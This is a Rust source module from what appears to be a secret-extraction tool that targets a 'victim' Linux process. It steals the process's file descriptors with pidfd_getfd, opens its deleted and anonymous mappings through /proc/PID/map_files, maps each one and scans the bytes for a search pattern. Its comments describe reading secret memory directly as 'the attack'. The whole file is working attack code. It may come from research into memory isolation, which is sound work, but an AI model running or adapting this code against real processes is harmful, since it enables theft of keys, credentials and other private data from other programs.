//! The avenues of descriptors: stealing the victim's own, and opening the files that its mappings are of.

use std::fs::File;
use std::io;
use std::os::fd::{AsFd, AsRawFd, FromRawFd, OwnedFd};

use super::{Avenue, Search};
use crate::sys;

/// The most of one object that is read.
const MOST: u64 = 64 << 20;

/// `pidfd_getfd`: takes each descriptor, and maps what it stands for.
pub(super) fn stolen(pid: i32, search: &Search<'_>) -> Avenue {
    let mut avenue = Avenue::new("pidfd_getfd");
    let pidfd = match sys::pidfd_open(pid) {
        Ok(pidfd) => pidfd,
        Err(e) => return Avenue::refused(avenue.name, sys::errno(&e)),
    };
    for number in 0..64 {
        // SAFETY: three integers; what it returns is a new descriptor that nobody else owns.
        let fd = unsafe {
            sys::check(libc::syscall(libc::SYS_pidfd_getfd, pidfd.as_raw_fd(), number, 0))
                .map(|fd| OwnedFd::from_raw_fd(fd as i32))
        };
        match fd {
            Ok(fd) => {
                if let Err(e) = search_mapped(&mut avenue, fd, search) {
                    avenue.errno = avenue.errno.or(Some(sys::errno(&e)));
                }
            }
            Err(e) if sys::errno(&e) == libc::EBADF => {}
            Err(e) => avenue.errno = avenue.errno.or(Some(sys::errno(&e))),
        }
    }
    avenue
}

/// `/proc/PID/map_files`: opens what each mapping is of, such as shared memory that has no name.
pub(super) fn mapped_files(pid: i32, search: &Search<'_>) -> Avenue {
    let mut avenue = Avenue::new("/proc/PID/map_files");
    let entries = match std::fs::read_dir(format!("/proc/{pid}/map_files")) {
        Ok(entries) => entries,
        Err(e) => return Avenue::refused(avenue.name, sys::errno(&e)),
    };
    for entry in entries.flatten() {
        // Files with a name hold what is on disk, and so nothing secret of the process.
        let target = std::fs::read_link(entry.path()).unwrap_or_default();
        if !target.to_string_lossy().ends_with("(deleted)") {
            continue;
        }
        let searched =
            File::open(entry.path()).and_then(|file| search_mapped(&mut avenue, file.into(), search));
        if let Err(e) = searched {
            avenue.errno = avenue.errno.or(Some(sys::errno(&e)));
        }
    }
    avenue
}

/// Reads a descriptor's object the way that works for memory of any kind: by mapping it.
fn search_mapped(avenue: &mut Avenue, fd: OwnedFd, search: &Search<'_>) -> io::Result<()> {
    let file = File::from(fd);
    let len = file.metadata()?.len().min(MOST) as usize;
    if len == 0 {
        return Ok(()); // a socket, a pipe, a device: there is nothing that stays in it
    }
    // SAFETY: a new, private mapping of an open descriptor.
    let memory = unsafe {
        let fd = file.as_fd().as_raw_fd();
        libc::mmap(std::ptr::null_mut(), len, libc::PROT_READ, libc::MAP_SHARED, fd, 0)
    };
    if memory == libc::MAP_FAILED {
        return Err(io::Error::last_os_error());
    }
    let mut copy = vec![0_u8; len];
    let (ours, theirs) = (memory as u64, std::process::id() as i32);
    let local = libc::iovec { iov_base: copy.as_mut_ptr().cast(), iov_len: len };
    let remote = libc::iovec { iov_base: ours as *mut libc::c_void, iov_len: len };
    // SAFETY: copies from our own mapping to our own buffer; the kernel returns an error for a page that
    // cannot be had. Secret memory refuses this copy: then it is read by the processor, which is the attack.
    let copied = unsafe { libc::process_vm_readv(theirs, &local, 1, &remote, 1, 0) };
    if copied == len as isize {
        avenue.hits.extend(search.find(&copy, 0));
    } else {
        // SAFETY: the mapping has `len` bytes, and the object is as long; see the exception above.
        let bytes = unsafe { std::slice::from_raw_parts(memory.cast::<u8>(), len) };
        avenue.hits.extend(search.find(bytes, 0));
    }
    avenue.read += len as u64;
    // SAFETY: the mapping is ours and nothing refers to it any more.
    unsafe { libc::munmap(memory, len) };
    Ok(())
}
